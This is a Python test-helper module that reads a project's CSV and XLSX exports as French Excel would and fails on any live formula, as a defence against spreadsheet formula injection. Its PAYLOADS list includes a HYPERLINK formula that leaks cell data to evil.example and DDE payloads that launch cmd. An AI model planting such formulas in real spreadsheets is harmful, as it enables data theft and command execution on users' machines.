"""How a French spreadsheet reads our files, for the tests of every export.

``read_csv`` opens a CSV as French Excel / LibreOffice do (UTF-8 only with a BOM, « ; »
separator, decimal comma, dd/mm/yyyy dates) and returns typed values: a cell that the
spreadsheet would evaluate as a formula raises, so a test fails on any live payload.
``read_xlsx`` returns the cells of every sheet and fails on any formula in the file.
"""

from __future__ import annotations

import codecs
import csv
import datetime as dt
import io
import re
import zipfile
from dataclasses import dataclass
from decimal import Decimal

from openpyxl import load_workbook

# The payloads of issue 11 item 6 and their variants: each must reach the file as inert text.
PAYLOADS = (
    '=HYPERLINK("http://evil.example/?"&A1,"clic")',
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "+33 6 12 34 56 78",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    "\uff1d1+1",  # full-width equals sign
)

_NUMBER = re.compile(r"^-?\d+(,\d+)?$")
_DATE = re.compile(r"^(\d{2})/(\d{2})/(\d{4})( (\d{2}):(\d{2})(:(\d{2}))?)?$")
_TRIGGERS = tuple("=+-@\t\r\n\uff1d\uff0b\uff0d\uff20")


class LiveFormula(AssertionError):
    """A cell a spreadsheet would run."""


@dataclass(frozen=True)
class Text:
    """A text cell; ``shown`` is what the spreadsheet displays (a CSV's neutralising
    apostrophe included), ``original`` the data without that apostrophe."""

    shown: str

    @property
    def original(self) -> str:
        rest = self.shown[1:]
        neutralised = self.shown.startswith("'") and (
            rest.startswith(_TRIGGERS) or rest.lstrip(" \u00a0\u202f\u3000").startswith(_TRIGGERS)
        )
        return rest if neutralised else self.shown


def _value(cell: str):
    if cell == "":
        return None
    if _NUMBER.match(cell):
        return Decimal(cell.replace(",", "."))
    match = _DATE.match(cell)
    if match:
        day, month, year = int(match[1]), int(match[2]), int(match[3])
        if match[4]:
            second = int(match[8] or 0)
            return dt.datetime(year, month, day, int(match[5]), int(match[6]), second)
        return dt.date(year, month, day)
    if cell.lstrip(" \u00a0\u202f\u3000").startswith(_TRIGGERS) or cell.startswith(_TRIGGERS):
        raise LiveFormula(f"cellule évaluée comme une formule : {cell!r}")
    return Text(cell)


def read_csv(data: bytes) -> list[list]:
    """Rows of typed values: Decimal, date, datetime, Text or None."""
    assert data.startswith(codecs.BOM_UTF8), "CSV sans BOM : Excel le lirait en Windows-1252"
    text = data[len(codecs.BOM_UTF8) :].decode("utf-8")
    rows = list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))
    assert text.endswith("\r\n") and text.count("\r\n") >= len(rows), "fins de ligne CRLF"
    return [[_value(cell) for cell in row] for row in rows]


def plain(value):
    """A typed CSV value as a comparable Python value (Text → its data)."""
    return value.original if isinstance(value, Text) else value


def table_after(rows: list[list], first_header: str) -> tuple[list[str], list[list]]:
    """The header row starting with ``first_header`` and the rows below it."""
    for i, row in enumerate(rows):
        if row and isinstance(row[0], Text) and row[0].original == first_header:
            return [plain(c) for c in row], rows[i + 1 :]
    raise AssertionError(f"en-tête « {first_header} » introuvable")


def read_xlsx(data: bytes) -> dict[str, list[list]]:
    """Cells of every sheet (openpyxl objects); fails if the file holds a formula."""
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                xml = archive.read(name).decode()
                assert "<f>" not in xml and "<f " not in xml, f"formule dans {name}"
    workbook = load_workbook(io.BytesIO(data))
    sheets = {}
    for sheet in workbook.worksheets:
        rows = [list(row) for row in sheet.iter_rows()]
        for row in rows:
            for cell in row:
                assert cell.data_type != "f", f"formule en {sheet.title}!{cell.coordinate}"
        sheets[sheet.title] = rows
    return sheets


def assert_text_inert(cell) -> None:
    """A text cell holding a payload: stored as text, with Excel's quote prefix."""
    assert cell.data_type == "s", cell.coordinate
    assert cell.quotePrefix, f"{cell.coordinate} : {cell.value!r} sans préfixe"


def payload_cells(sheets: dict[str, list[list]], payloads=PAYLOADS) -> list:
    """Every cell whose text starts with one of ``payloads`` (they must all be inert). XML reads
    a carriage return back as a line feed, hence the normalisation."""
    wanted = [p.replace("\r", "\n") for p in payloads]
    found = []
    for rows in sheets.values():
        for row in rows:
            for cell in row:
                if isinstance(cell.value, str) and cell.value.startswith(tuple(wanted)):
                    found.append(cell)
    return found
